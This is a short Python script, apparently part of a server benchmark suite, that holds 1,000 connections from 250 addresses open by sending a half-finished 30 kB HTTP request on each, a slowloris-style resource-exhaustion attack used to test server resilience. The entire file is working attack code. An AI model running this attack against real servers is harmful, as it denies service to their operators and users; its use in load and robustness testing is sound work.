"""Send half a request of 30 kB on 1,000 connections from 250 addresses."""

import random

from benchmarks.attack.scripts.large_heads import REQUEST
from benchmarks.attack.target import MANY_ADDRESSES, Target, repeat

HALF = REQUEST.removesuffix(b"\r\n")


async def attack(target: Target) -> None:
    """Send half a request and wait until the server closes the connection."""
    async with target.connected(random.choice(MANY_ADDRESSES)) as (reader, writer):
        writer.write(HALF)
        await reader.read()


if __name__ == "__main__":
    repeat(attack, clients=1_000)
